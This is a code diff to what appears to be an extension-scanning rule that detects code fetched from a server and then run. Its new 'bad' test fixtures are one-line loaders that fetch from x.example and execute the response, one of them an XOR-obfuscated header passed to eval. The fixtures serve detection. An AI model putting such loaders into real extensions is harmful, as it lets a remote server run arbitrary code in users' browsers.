@@ -1,9 +1,11 @@
-import { apiPath, Op, type ScriptFacts } from '../../facts/javascript/query.ts';
-import { defineRule } from '../../rule.ts';
-import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
-import { codeRunsOf, type RunKind } from './codeRuns.ts';
+import { apiPath, nameOf, Op, type ScriptFacts } from '../../facts/javascript/query.ts';
+import type { Facts } from '../../facts.ts';
+import { defineRule, type Hit } from '../../rule.ts';
+import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
+import { codeRunsOf, type CodeRun, type RunKind } from './codeRuns.ts';
+import { answersFromServer, isAnswer, isHeldServerText, isMostlyOwn } from './heldServerText.ts';
 import { isFromKnownServer, isFromServer } from './network.ts';
-import { originsOf } from './origins.ts';
+import { originPaths, originsOf } from './origins.ts';
 
 /** The ways that certainly run what they are given. */
 const CERTAIN: ReadonlySet<RunKind> = new Set(['eval', 'function', 'callback', 'timer']);
@@ -25,8 +27,11 @@ export const remoteCode = defineRule({
   cap: { grade: 'F', reason: 'it runs code that a server sends' },
   check: checkScripts(function* ({ script, hit, facts }) {
     for (const run of codeRunsOf(script)) {
-      if (!isFromServer(script, run.code)) continue;
-      if (run.kind === 'unsure' && !isPlainData(script, run.code)) continue;
+      if (!isFromServer(script, run.code)) {
+        yield* roundabout(facts, script, run, hit);
+        continue;
+      }
+      if (run.kind === 'unsure' && !isPlainData(script, run.code) && !isResult(script, run.code)) continue;
       const certain = CERTAIN.has(run.kind);
       if (script.stats.values > LIBRARY && !isFromKnownServer(script, run.code)) {
         yield hit(run.value, { severity: 'high', confidence: 'low', message: 'Where the text comes from is not seen: it may be a library that can do this if it is asked to.' });
@@ -53,12 +58,20 @@ export const remoteCode = defineRule({
       backgroundExample('fetch("https://x.example/t").then((r) => r.text()).then((t) => setTimeout(t, 100));'),
       backgroundExample('fetch("https://x.example/t").then((r) => r.json()).then((c) => chrome.tabs.executeScript(null, c.inject));', { manifest_version: 2 }),
       contentExample('fetch("https://x.example/t").then((r) => r.text()).then((t) => { const s = document.createElement("script"); s.src = "data:text/javascript," + encodeURIComponent(t); document.head.append(s); });'),
+      backgroundExample('fetch("https://x.example/c").then((r) => r.text()).then((t) => chrome.storage.local.set({ part: t })); chrome.storage.local.get("part", ({ part }) => new Function(part)());'),
+      backgroundExample('fetch("https://x.example/c").then((r) => r.json()).then((c) => { localStorage["conf"] = JSON.stringify(c); }); chrome.tabs.onUpdated.addListener((id) => { const c = JSON.parse(localStorage["conf"] || "{}"); chrome.tabs.executeScript(id, { code: c.js }); });', { manifest_version: 2 }),
+      { files: { 'manifest.json': '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "bg.js"}, "content_scripts": [{"matches": ["<all_urls>"], "js": ["cs.js"]}]}', 'bg.js': 'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://x.example/t").then((r) => r.text()).then(reply); return true; });', 'cs.js': 'chrome.runtime.sendMessage({ get: 1 }, (t) => { const d = document.createElement("div"); d.setAttribute("onreset", t); document.body.append(d); });' } },
+      backgroundExample('self.addEventListener("push", (e) => { const m = e.data.json(); eval(m.run); });'),
+      backgroundExample('fetch("https://x.example/a.css").then((r) => { let s = ""; atob(r.headers.get("x-v")).split("").forEach((c, i) => { s += String.fromCharCode(c.charCodeAt(0) ^ (i % 7)); }); (0, eval)(s); });'),
       { files: { 'setup.js': 'const https = require("https"); https.get("https://x.example/s", (r) => { let d = ""; r.on("data", (c) => { d += c; }); r.on("end", () => eval(d)); });' } },
     ],
     good: [
       backgroundExample('function load(url, done) { fetch(url).then((r) => r.json()).then((d) => { setTimeout(done, 100); setTimeout(() => done(d), 10); }); } load("https://x.example/a", show); new Promise((resolve) => setTimeout(resolve, 5));'),
       contentExample('fetch(chrome.runtime.getURL("inject.js")).then((r) => r.text()).then((code) => { const s = document.createElement("script"); s.textContent = code; document.head.append(s); });'),
       backgroundExample('const x = new XMLHttpRequest(); x.open("GET", chrome.extension.getURL("page.js")); x.onload = function () { chrome.tabs.executeScript({ code: this.responseText }); }; x.send();', { manifest_version: 2 }),
+      backgroundExample('fetch("https://x.example/c").then((r) => r.json()).then((flags) => chrome.storage.local.set({ flags })); chrome.storage.local.get("rule", ({ rule }) => new Function(rule)());'),
+      backgroundExample('fetch("https://x.example/c").then((r) => r.json()).then((c) => chrome.storage.local.set({ zoom: c.zoom })); chrome.storage.local.get("zoom", ({ zoom }) => chrome.tabs.executeScript({ code: "document.body.style.zoom = " + zoom }));', { manifest_version: 2 }),
+      backgroundExample('self.addEventListener("push", (e) => { self.registration.showNotification(e.data.text()); }); eval("1");'),
       backgroundExample('fetch("https://x.example/a.json").then((r) => r.json()).then((data) => { show(data.title); });'),
       backgroundExample('fetch("https://x.example/a").then((r) => r.text()).then((t) => { JSON.parse(t); }); eval("1 + 1");'),
       contentExample('fetch("https://x.example/a").then((r) => r.text()).then((css) => { const s = document.createElement("style"); s.textContent = css; document.head.append(s); });'),
@@ -67,6 +80,15 @@ export const remoteCode = defineRule({
   },
 });
 
+/** What a server sent was kept or handed on before it is run. */
+function* roundabout(facts: Facts, script: ScriptFacts, run: CodeRun, hit: Judged['hit']): Generator<Hit> {
+  if (run.code === 0 || facts.kind !== 'extension' || (run.kind === 'unsure' && !isPlainData(script, run.code)) || isMostlyOwn(script, run.code)) return;
+  // Managers of user scripts keep scripts that the person chose.
+  const mild = run.kind === 'user-script' ? ({ severity: 'medium', confidence: 'low' } as const) : ({ severity: 'high', confidence: 'medium' } as const);
+  if (isHeldServerText(facts, script, run.code)) yield hit(run.value, { ...mild, message: 'A server sent the text, it was kept, and is run when it is taken out again.' });
+  else if (isAnswer(script, run.code) && facts.whole(answersFromServer)) yield hit(run.value, { ...mild, message: 'The background fetches the text and hands it to this script.' });
+}
+
 /** Nothing that it is made of is a function: `setTimeout(next, 100)` is no text. */
 function isPlainData(script: ScriptFacts, value: number): boolean {
   for (const one of originsOf(script, value)) {
@@ -74,4 +96,9 @@ function isPlainData(script: ScriptFacts, value: number): boolean {
     if (op === Op.func || op === Op.klass || apiPath(script, one) === 'Promise') return false;
   }
   return true;
+}
+
+/** What a request to a database gives: `request.result`. */
+function isResult(script: ScriptFacts, value: number): boolean {
+  return script.op[value] === Op.member && nameOf(script, value) === 'result' && originPaths(script, value).has('indexedDB.open');
 }
